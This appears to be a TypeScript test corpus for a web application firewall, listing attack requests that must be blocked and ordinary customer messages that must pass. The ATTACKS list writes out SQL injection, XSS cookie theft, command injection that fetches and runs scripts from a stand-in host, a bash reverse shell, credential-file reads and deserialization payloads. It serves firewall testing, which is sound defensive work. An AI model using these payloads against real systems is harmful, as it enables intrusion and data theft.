/** A request of the corpus; everything else about it is that of a browser. */
export interface Sample {
  readonly id: string
  readonly method: 'GET' | 'POST'
  /** Path and query as sent. */
  readonly target: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: string | null
}

/** Paths that the platform answers itself, so that no sample reaches the protected service. */
const PLACE = '/api/none'

const FORM = 'application/x-www-form-urlencoded'

function inQuery(id: string, value: string, name = 'q'): Sample {
  return {
    id,
    method: 'GET',
    target: `${PLACE}?${name}=${encodeURIComponent(value)}`,
    headers: {},
    body: null,
  }
}

function inForm(id: string, value: string, name = 'text'): Sample {
  const body = `${name}=${encodeURIComponent(value)}`
  return { id, method: 'POST', target: PLACE, headers: { 'content-type': FORM }, body }
}

function inJson(id: string, value: unknown): Sample {
  const headers = { 'content-type': 'application/json' }
  return { id, method: 'POST', target: PLACE, headers, body: JSON.stringify(value) }
}

function inHeader(id: string, name: string, value: string): Sample {
  return { id, method: 'GET', target: PLACE, headers: { [name]: value }, body: null }
}

/** Attacks of every class that the Core Rule Set, 4 and 3 alike, looks for at paranoia level 1; each must be refused. Policy 4.1-a. */
export const ATTACKS: readonly Sample[] = [
  inQuery('sqli-or-true', "1' OR '1'='1"),
  inQuery('sqli-union', '1 UNION SELECT username, password FROM accounts--'),
  inQuery('sqli-stacked', "x'; DROP TABLE customers; --"),
  inForm('sqli-sleep', "1' AND SLEEP(5)-- -"),
  inForm('sqli-schema', "' UNION ALL SELECT table_name, NULL FROM information_schema.tables -- "),
  inJson('sqli-json', { filter: { name: "admin' OR 1=1-- " } }),
  inQuery('sqli-benchmark', "1' AND BENCHMARK(5000000,MD5(1))#"),
  inQuery('sqli-waitfor', "1; WAITFOR DELAY '0:0:5'--"),
  inForm('sqli-comment', "1'/**/UNION/**/SELECT/**/1,2,3--"),
  inHeader('sqli-cookie', 'cookie', "id=1' UNION SELECT 1,2,3-- "),
  inQuery('xss-script', '<script>alert(document.domain)</script>'),
  inQuery('xss-image', '<img src=x onerror=alert(1)>'),
  inQuery('xss-svg', '<svg/onload=alert(1)>'),
  inForm('xss-link', '<a href="javascript:alert(1)">here</a>'),
  inForm('xss-frame', '<iframe src="javascript:alert(1)"></iframe>'),
  inJson('xss-json', { text: '"><script src=//elsewhere.example/x.js></script>' }),
  inQuery('xss-attribute', '" onmouseover="alert(document.cookie)" x="'),
  inForm('xss-style', '<body onload=fetch("//elsewhere.example/"+document.cookie)>'),
  inQuery('rce-passwd', '; cat /etc/passwd'),
  inQuery('rce-pipe', '| wget http://elsewhere.example/a.sh -O /tmp/a.sh'),
  inForm('rce-substitution', '$(curl http://elsewhere.example/x | sh)'),
  inForm('rce-shell', '`/bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`'),
  inQuery('rce-windows', '& powershell -nop -c Invoke-WebRequest http://elsewhere.example'),
  inHeader('rce-shellshock', 'user-agent', '() { :;}; /bin/bash -c "cat /etc/passwd"'),
  inJson('rce-json', { host: '127.0.0.1; /bin/cat /etc/shadow' }),
  inQuery('lfi-dots', '../../../../etc/passwd', 'file'),
  inQuery('lfi-encoded', '..%2f..%2f..%2fetc%2fpasswd', 'file'),
  inQuery('lfi-windows', '..\\..\\..\\windows\\win.ini', 'file'),
  inForm('lfi-environment', '/proc/self/environ', 'path'),
  inQuery('lfi-private', '../../.ssh/id_rsa', 'file'),
  inQuery('rfi-address', 'http://192.0.2.7/shell.txt?', 'page'),
  inQuery('php-eval', '<?php system($_GET["c"]); ?>'),
  inQuery('php-wrapper', 'php://filter/convert.base64-encode/resource=index.php', 'page'),
  inForm('php-object', 'O:8:"Database":1:{s:4:"file";s:9:"shell.php";}'),
  inForm('php-function', 'eval(base64_decode($_POST["x"]));'),
  inForm('java-classes', 'org.apache.commons.collections.functors.InvokerTransformer'),
  inForm('java-runtime', 'java.lang.Runtime.getRuntime().exec("id")'),
  inForm('java-process', '(#_memberAccess["x"]=true)(java.lang.ProcessBuilder("id").start())'),
  inForm('node-process', "require('child_process').exec('id')"),
  inJson('node-constructor', { a: "this.constructor.constructor('return process')()" }),
  inHeader('scanner', 'user-agent', 'sqlmap/1.7 (https://sqlmap.org)'),
  inHeader('scanner-nikto', 'user-agent', 'Mozilla/5.00 (Nikto/2.1.6)'),
]

const WORDS = [
  'Good morning, could you tell me when my order will arrive?',
  'Thanks a lot! That was quick and friendly.',
  'Is the blue jacket still available in size M, and what does it cost?',
  "It's for O'Brien & Sons, 12 King's Road, second floor.",
  'Please select the larger one from the two that we discussed.',
  'We will update the table for dinner to seven persons.',
  'The price went from €1,299.00 to €999.50 (incl. 19 % VAT).',
  'Wir hätten gerne ein Angebot über 40 Stück; Lieferung bis 30.11.?',
  'Où puis-je trouver la facture du mois dernier ?',
  '¿Puedo cambiar la cita del martes a las 10:30?',
  '明日の予約を変更できますか。',
  'هل يمكنني تغيير موعد التسليم؟',
  'See you at 5 pm :-) and bring the drawings, please…',
  'My number ends in 4711; the reference is INV-2026-00042.',
  'Read https://www.example.org/help/returns first, then write to us.',
  'Line one\nLine two\n\nKind regards\nthe front desk',
] as const

/** What people and programs ordinarily send; none may be refused. Policy 4.1-a. */
export const BENIGN: readonly Sample[] = [
  ...WORDS.map((text, index) => inForm(`message-${index + 1}`, text)),
  ...WORDS.slice(0, 8).map((text, index) =>
    inJson(`message-json-${index + 1}`, { text, channel: 'web', urgent: false }),
  ),
  inQuery('search-word', 'jacket'),
  inQuery('search-words', 'blue jacket size M'),
  inQuery('search-name', "O'Brien"),
  inQuery('search-mail', 'front.desk@example.org'),
  inQuery('search-number', '+49 30 1234567'),
  inQuery('page', '12', 'page'),
  inQuery('cursor', 'b3BhcXVlLWN1cnNvci0xMjM0NTY3ODkw', 'cursor'),
  inQuery('day', '2026-11-22T14:00:00Z', 'since'),
  inQuery('id', '0199b4a2-6c1e-7d2a-9f00-1c2d3e4f5a6b', 'id'),
  inJson('profile', { name: 'Sample Person', language: 'de', timeZone: 'Europe/Berlin', notify: true }),
  inJson('rule', {
    name: 'Opening hours',
    when: { channel: 'web', after: '18:00' },
    reply: 'We are back at 9.',
  }),
  inJson('list', { ids: [1, 2, 3, 5, 8, 13], order: 'newest', limit: 50 }),
  inJson('nested', { contact: { address: { street: '12 King’s Road', city: 'Sample Town', zip: '10115' } } }),
  inForm('two-fields', 'Sample Person', 'name'),
  inHeader('language', 'accept-language', 'de-DE,de;q=0.9,en;q=0.8'),
  inHeader('referer', 'referer', 'https://localhost/console/inbox?view=open'),
  inHeader('cookie', 'cookie', 'theme=dark; visited=2026-11-22'),
  inHeader(
    'phone',
    'user-agent',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15',
  ),
]

/** Headers that every sample has, under those that it names itself. */
export const BROWSER: Readonly<Record<string, string>> = {
  'user-agent':
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36',
  accept: 'application/json, text/plain, */*',
}
